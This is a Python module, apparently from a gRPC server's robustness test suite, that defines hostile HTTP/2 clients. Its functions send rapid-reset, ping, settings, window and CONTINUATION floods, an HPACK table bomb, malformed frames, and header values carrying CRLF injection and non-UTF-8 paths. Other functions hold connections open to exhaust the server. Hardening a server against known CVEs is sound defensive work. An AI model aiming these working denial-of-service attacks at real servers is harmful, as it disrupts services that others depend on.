"""What hostile clients do to a connection; each attack says how many frames, or pieces of what should be frames, it sent.

Names of frames, settings and error codes are those of RFC 9113; the floods are known by what they did to other servers: CVE-2019-9512
(ping), -9515 (settings), -9518 (empty frames), -9517 (a window of zero), CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION).
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Mapping

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from hostile.http2_connection import PREFACE, SERVICE, Http2Connection, grpc_message
from vecgate.v1.filter_pb2 import Selector
from vecgate.v1.read_pb2 import GetRequest
from vecgate.v1.record_pb2 import ReturnFields
from vecgate.v1.search_pb2 import Query, SearchRequest

CANCEL = 8
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 1, 4, 5
FLOOD = 500
NO_TEXT = b"/c\xb9I0\xd2"
"""No UTF-8. As a path it once ended every server of gRPC's, whatever it serves."""
COLLECTION = "frames"
SEARCH = SearchRequest(collection=COLLECTION, query=Query(id="a0")).SerializeToString()
EVERYTHING = GetRequest(
    collection=COLLECTION, selector=Selector(all=True), fields=ReturnFields(vector=True)
).SerializeToString()

Attack = Callable[[str, random.Random], int]


def raw_frame(kind: int, flags: int, stream: int, body: bytes, *, length: int | None = None) -> bytes:
    """Build a frame of any kind, valid or not; `length` is what it says its length is, if not the truth."""
    said = len(body) if length is None else length
    return struct.pack(">I", said)[1:] + struct.pack(">BBI", kind, flags, stream) + body


def _flood(address: str, frame: Callable[[Http2Connection], bytes]) -> int:
    """Send the same frame again and again, until it was often enough or the server has had enough."""
    with Http2Connection(address) as connection:
        for sent in range(FLOOD):
            if not connection.send(frame(connection)):
                return sent + 1
    return FLOOD


def rapid_reset(address: str, chance: random.Random) -> int:
    """Begin calls and cancel each at once."""
    with Http2Connection(address) as connection:
        for sent in range(FLOOD // 2):
            stream = connection.new_stream()
            headers = HeadersFrame(stream, connection.header_block(SERVICE + "Search"), flags=["END_HEADERS"])
            body = DataFrame(stream, grpc_message(SEARCH), flags=["END_STREAM"]).serialize()
            whole = headers.serialize() + (body if chance.random() < 0.5 else b"")
            if not connection.send(whole + RstStreamFrame(stream, CANCEL).serialize()):
                return 2 * sent + 2
    return FLOOD


def ping_flood(address: str, _: random.Random) -> int:
    """Ask for answers that nobody reads."""
    return _flood(address, lambda _: PingFrame(0, b"12345678").serialize())


def settings_flood(address: str, chance: random.Random) -> int:
    """Change the settings again and again."""
    return _flood(address, lambda _: SettingsFrame(0, {HEADER_TABLE_SIZE: chance.randrange(65_536)}).serialize())


def window_flood(address: str, _: random.Random) -> int:
    """Grant byte after byte."""
    return _flood(address, lambda _: WindowUpdateFrame(0, 1).serialize())


def priority_flood(address: str, chance: random.Random) -> int:
    """Shuffle a tree of streams that do not exist."""
    return _flood(address, lambda _: PriorityFrame(2 * chance.randrange(1_000) + 1, depends_on=0).serialize())


def goaway_flood(address: str, _: random.Random) -> int:
    """Say goodbye and stay."""
    return _flood(address, lambda _: GoAwayFrame(0, last_stream_id=0, error_code=0).serialize())


def unknown_frames(address: str, chance: random.Random) -> int:
    """Send kinds of frames that there are none of."""
    return _flood(address, lambda _: raw_frame(chance.randrange(16, 256), 0, 0, chance.randbytes(9)))


def empty_frames(address: str, _: random.Random) -> int:
    """Send a call in frames of nothing."""
    with Http2Connection(address) as connection:
        stream = connection.begin("Search")
        for sent in range(FLOOD):
            if not connection.send(DataFrame(stream, b"")):
                return sent + 1
    return FLOOD


def continuation_flood(address: str, _: random.Random) -> int:
    """Send headers that never end."""
    with Http2Connection(address) as connection:
        stream = connection.new_stream()
        connection.send(HeadersFrame(stream, connection.header_block(SERVICE + "Search")))
        for sent in range(FLOOD):
            block = connection.header_block("/", **{f"x{sent}": "y" * 200})
            if not connection.send(ContinuationFrame(stream, block)):
                return sent + 1
    return FLOOD


def huge_headers(address: str, chance: random.Random) -> int:
    """Send headers larger than anybody's."""
    with Http2Connection(address) as connection:
        for sent in range(20):
            block = connection.header_block(SERVICE + "Search", **{f"x{sent}": chance.randbytes(6_000).hex()})
            if not connection.send(HeadersFrame(connection.new_stream(), block, flags=["END_HEADERS", "END_STREAM"])):
                return sent + 1
    return 20


def growing_table(address: str, chance: random.Random) -> int:
    """Refer to one large entry of the header table a thousand times: a small block that means megabytes."""
    with Http2Connection(address) as connection:
        large = connection.header_block(SERVICE + "Search", bomb="b" * 3_000)
        block = large + large[-1:] * chance.randrange(500, 4_000)
        connection.send(HeadersFrame(connection.new_stream(), block, flags=["END_HEADERS"]))
    return 1


def bad_header_blocks(address: str, chance: random.Random) -> int:
    """Send headers that no table explains."""
    for sent in range(10):
        with Http2Connection(address) as connection:
            good = bytearray(connection.header_block(SERVICE + "Search"))
            good[chance.randrange(len(good))] ^= 1 << chance.randrange(8)
            block = bytes(good) if sent % 2 else chance.randbytes(chance.randrange(1, 200))
            connection.send(HeadersFrame(connection.new_stream(), block, flags=["END_HEADERS", "END_STREAM"]))
    return 10


def bad_header_values(address: str, chance: random.Random) -> int:
    """Send headers with control characters, bytes that are no ASCII, bad base64, and methods and timeouts that are none."""
    values = ("a\0b", "a\r\nb: c", "\x7f", "\xff", "é", "\ud7ff", "%00", " ", "", "x" * 4_000, NO_TEXT)
    names = (
        "x_request_id",
        "grpc_timeout",
        "grpc_encoding",
        "grpc_accept_encoding",
        "user_agent",
        "authorization",
        "x_bin",
    )
    with Http2Connection(address) as connection:
        for sent in range(20):
            bad: dict[str, str | bytes | None] = {chance.choice(names): chance.choice(values)}
            if sent % 4 == 0:
                bad |= {
                    "_path": chance.choice(("", "/", "//", "/a/b", "*", SERVICE, SERVICE + "search", "\0", NO_TEXT))
                }
            if not connection.call("Search", grpc_message(SEARCH), **bad):
                return sent + 1
    return 20


def bad_timeouts(address: str, chance: random.Random) -> int:
    """Give no time, much time, and what is no time."""
    with Http2Connection(address) as connection:
        for _ in range(20):
            timeout = chance.choice(("0n", "1n", "0S", "-1S", "99999999H", "999999999H", "1", "S", "1.5S", "1m", "1u"))
            connection.call("Search", grpc_message(SEARCH), grpc_timeout=timeout)
        for _ in connection.frames(0.02):
            pass
    return 20


def odd_streams(address: str, chance: random.Random) -> int:
    """Use ids of streams that are the server's, over, or not begun."""
    for _ in range(10):
        with Http2Connection(address) as connection:
            connection.call("Search", grpc_message(SEARCH))
            stream = chance.choice((0, 1, 2, 4, 2**31 - 1))
            connection.send(
                chance.choice(
                    (
                        HeadersFrame(
                            stream or 2, connection.header_block(SERVICE + "Search"), flags=["END_HEADERS"]
                        ).serialize(),
                        raw_frame(0, 1, stream, grpc_message(SEARCH)),
                        raw_frame(3, 0, stream, struct.pack(">I", CANCEL)),
                        raw_frame(8, 0, stream, struct.pack(">I", 0)),
                        raw_frame(2, 0, 3, struct.pack(">IB", 3, 1)),
                    )
                )
            )
    return 20


def wrong_lengths(address: str, chance: random.Random) -> int:
    """Say a length that is not the frame's, or that its kind does not have."""
    for _ in range(10):
        with Http2Connection(address) as connection:
            connection.send(
                chance.choice(
                    (
                        raw_frame(6, 0, 0, b"1234567"),
                        raw_frame(4, 0, 0, b"12345"),
                        raw_frame(4, 1, 0, b"123456"),
                        raw_frame(3, 0, 1, b"123"),
                        raw_frame(8, 0, 0, b"12345"),
                        raw_frame(0, 8, 1, b"\xff" + b"p" * 10),
                        raw_frame(1, 0x2C, 1, b"\xff"),
                        raw_frame(0, 0, 1, b"", length=2**24 - 1),
                        raw_frame(1, 4, 1, b"\x00" * 20, length=10),
                        raw_frame(7, 0, 0, b"1"),
                    )
                )
            )
            connection.send(chance.randbytes(100))
    return 20


def overflowing_window(address: str, _: random.Random) -> int:
    """Grant more than a window can be, and change its size under the calls."""
    with Http2Connection(address) as connection:
        connection.call("Get", grpc_message(EVERYTHING))
        connection.send(SettingsFrame(0, {INITIAL_WINDOW_SIZE: 2**31 - 1}))
        connection.send(WindowUpdateFrame(0, 2**31 - 1))
        connection.send(WindowUpdateFrame(0, 2**31 - 1))
    with Http2Connection(address) as connection:
        connection.send(raw_frame(4, 0, 0, struct.pack(">HIHI", INITIAL_WINDOW_SIZE, 2**31, MAX_FRAME_SIZE, 1)))
    return 5


def random_frames(address: str, chance: random.Random) -> int:
    """Send frames of random kinds, flags, streams and bodies."""
    sent = 0
    for _ in range(20):
        with Http2Connection(address) as connection:
            connection.begin("UpsertStream")
            for _ in range(12):
                body = chance.randbytes(chance.choice((0, 4, 5, 6, 8, 40)))
                sent += 1
                if not connection.send(
                    raw_frame(chance.randrange(12), chance.randrange(256), chance.choice((0, 1, 3)), body)
                ):
                    break
    return sent


def mutated_conversations(address: str, chance: random.Random) -> int:
    """Say what a client says, with bytes changed, left out, added or cut off."""
    for _ in range(20):
        with Http2Connection(address, preface=b"") as connection:
            block = connection.header_block(SERVICE + chance.choice(("Search", "Get", "UpsertStream")))
            said = bytearray(PREFACE + SettingsFrame(0, {}).serialize())
            said += HeadersFrame(1, block, flags=["END_HEADERS"]).serialize()
            said += DataFrame(1, grpc_message(SEARCH), flags=["END_STREAM"]).serialize()
            for _ in range(chance.choice((1, 1, 2, 8))):
                if not said:  # what was cut out was all there was
                    break
                place = chance.randrange(len(said))
                chance.choice(_CHANGES)(said, place, chance)
            connection.send(bytes(said))
    return 60


_CHANGES: tuple[Callable[[bytearray, int, random.Random], None], ...] = (
    lambda said, place, chance: said.__setitem__(place, said[place] ^ (1 << chance.randrange(8))),
    lambda said, place, chance: said.__setitem__(slice(place, place), chance.randbytes(chance.choice((1, 9, 40)))),
    lambda said, place, chance: said.__delitem__(slice(place, place + chance.choice((1, 9, 40)))),
    lambda said, place, chance: said.__setitem__(slice(place, place), said[place : place + chance.randrange(1, 60)]),
    lambda said, place, _: said.__delitem__(slice(max(place, 1), None)),
)


def bodies_that_lie(address: str, chance: random.Random) -> int:
    """Send calls whose messages are longer, shorter, more, fewer or otherwise than they say."""
    bodies = (
        b"",
        b"\0",
        grpc_message(SEARCH)[:-1],
        grpc_message(SEARCH, length=len(SEARCH) + 1),
        grpc_message(SEARCH, length=2**32 - 1),
        grpc_message(SEARCH, length=0),
        grpc_message(SEARCH, compressed=1),
        grpc_message(SEARCH, compressed=2),
        grpc_message(SEARCH, compressed=255),
        grpc_message(SEARCH) * 3,
        grpc_message(SEARCH) + b"\0",
        b"\xff" * 40,
    )
    with Http2Connection(address) as connection:
        for sent in range(20):
            headers: dict[str, str | None] = {
                "grpc_encoding": chance.choice((None, "gzip", "deflate", "identity", "zip"))
            }
            method = chance.choice(("Search", "UpsertStream", "Get"))
            if not connection.call(method, chance.choice(bodies), **headers):
                return 2 * sent + 2
        for _ in connection.frames(0.02):
            pass
    return 40


def no_http2(address: str, chance: random.Random) -> int:
    """Speak something else: HTTP/1, an upgrade, TLS, nothing that has a name."""
    for greeting in (
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /vecgate.v1.VectorSearchService/Search HTTP/1.1\r\nContent-Type: application/grpc\r\nContent-Length: 5\r\n\r\n\0\0\0\0\0",
        b"GET / HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + chance.randbytes(200),
        chance.randbytes(500),
        PREFACE[:10],
        b"\0" * 1_000,
        PREFACE + PREFACE,
        PREFACE + raw_frame(1, 4, 1, b""),
    ):
        with Http2Connection(address, preface=b"") as connection:
            connection.send(greeting)
            connection.is_ended(0.01)
    return 9


def vanishing(address: str, chance: random.Random) -> int:
    """Begin calls and streams, and reset the connection."""
    for _ in range(10):
        connection = Http2Connection(address)
        for _ in range(5):
            connection.begin(chance.choice(("UpsertStream", "Search")))
            connection.call("Get", grpc_message(EVERYTHING))
        connection.close(abruptly=chance.random() < 0.5)
    return 150


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, ping_flood, settings_flood, window_flood, priority_flood, goaway_flood, unknown_frames, empty_frames,
        continuation_flood, huge_headers, growing_table, bad_header_blocks, bad_header_values, bad_timeouts, odd_streams,
        wrong_lengths, overflowing_window, random_frames, mutated_conversations, bodies_that_lie, no_http2, vanishing,
    )
}  # fmt: skip


def holding_connections(address: str, chance: random.Random) -> list[Http2Connection]:
    """Open connections that are never finished: silent, slow, stalled by a window of zero, half a message, an endless stream."""
    silent = [Http2Connection(address, preface=b"") for _ in range(10)]
    slow = [Http2Connection(address, preface=b"") for _ in range(10)]
    for connection in slow:
        connection.send(PREFACE[: chance.randrange(1, len(PREFACE))])
    stalled = [Http2Connection(address, settings={INITIAL_WINDOW_SIZE: 0}) for _ in range(10)]
    for connection in stalled:
        for _ in range(5):
            connection.call("Get", grpc_message(EVERYTHING))
    half = [Http2Connection(address) for _ in range(10)]
    for connection in half:
        stream = connection.begin(chance.choice(("Search", "UpsertStream")))
        connection.send(DataFrame(stream, grpc_message(SEARCH)[:7]))
        connection.send(HeadersFrame(connection.new_stream(), connection.header_block(SERVICE + "Search")))
    return [*silent, *slow, *stalled, *half]


def drop_sockets(connections: list[Http2Connection]) -> None:
    """Close all of them."""
    for connection in connections:
        connection.close()
    connections.clear()
